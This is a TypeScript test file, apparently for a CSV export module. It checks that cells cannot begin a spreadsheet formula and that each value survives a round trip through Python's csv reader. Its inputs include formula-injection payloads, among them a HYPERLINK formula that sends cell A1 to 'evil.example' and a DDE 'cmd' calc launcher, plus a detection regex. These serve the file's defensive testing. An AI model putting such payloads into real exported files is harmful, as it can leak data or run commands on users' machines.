import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { cellText, csvText, inOneCell, type Separator } from '../../../src/generate/text/csv.js';
import { hostileTexts } from '../../support/hostile-texts.js';
import { describeWith } from '../../support/tools.js';

const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '|calc', '%0A=1', ' =1', '\t=1', '\r=1', '\n=1', '"=1', '" =1"', "'=1", "''", 'x;=1', 'x; =1', 'x,=1', 'x\t=1', 'x\n=1', 'x\r\n=1', 'x;"=1"', 'x;"";=1', "x;'=1", ';=1', ';;=1', '\uff1d1', '=HYPERLINK("https://evil.example?"&A1;"x")', "=cmd|'/C calc'!A0", inOneCell(['a', '=1', '+2'])];
const texts = [...hostileTexts, ...formulas, ''];
const separators: readonly Separator[] = [',', ';'];

/** What a spreadsheet may take for the beginning of a formula, wherever it thinks that cells begin. */
const formula = /(?:^|[,;\t\r\n])["\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20|%]/;

describe.each(separators)('a table with %s between its cells', (separator) => {
  const rows = texts.map((text, index) => [text, `row ${index}`, text]);

  it('begins no formula, whatever a spreadsheet takes for the end of a cell', () => {
    for (const row of rows) expect(formula.exec(csvText([], [row], separator))?.[0], JSON.stringify(row[0]!.slice(0, 80))).toBeUndefined();
  });

  describeWith('python3', 'read by another program', () => {
    it('has every text in its cell', () => {
      const script = 'import csv, io, json, sys\nprint(json.dumps(list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode("utf-8"), newline=""), delimiter=sys.argv[1], strict=True))))';
      const text = csvText(['first', 'number', 'last'], rows, separator);
      const read = JSON.parse(execFileSync('python3', ['-c', script, separator], { input: text, encoding: 'utf8', maxBuffer: 1e9 })) as string[][];
      expect(read.slice(1).map((row) => row.map(cellText))).toEqual(rows);
    });
  });
});

it('leaves alone what no spreadsheet runs', () => {
  const plain = ['claim-photo', 'a - b', 'P3Y', '50%', 'mail@example.org', 'Name, and a way to reach the customer', '\u00dcber\u00adgabe'];
  expect(plain.map((text) => csvText([], [[text]]).trim().replaceAll('"', '').split('\r\n').at(-1))).toEqual(plain);
});

it('writes numbers as they are, and nothing for what is absent', () => {
  expect(csvText(['a', 'b', 'c'], [[-1.5, undefined, 0]])).toBe('a,b,c\r\n-1.5,,0\r\n');
});
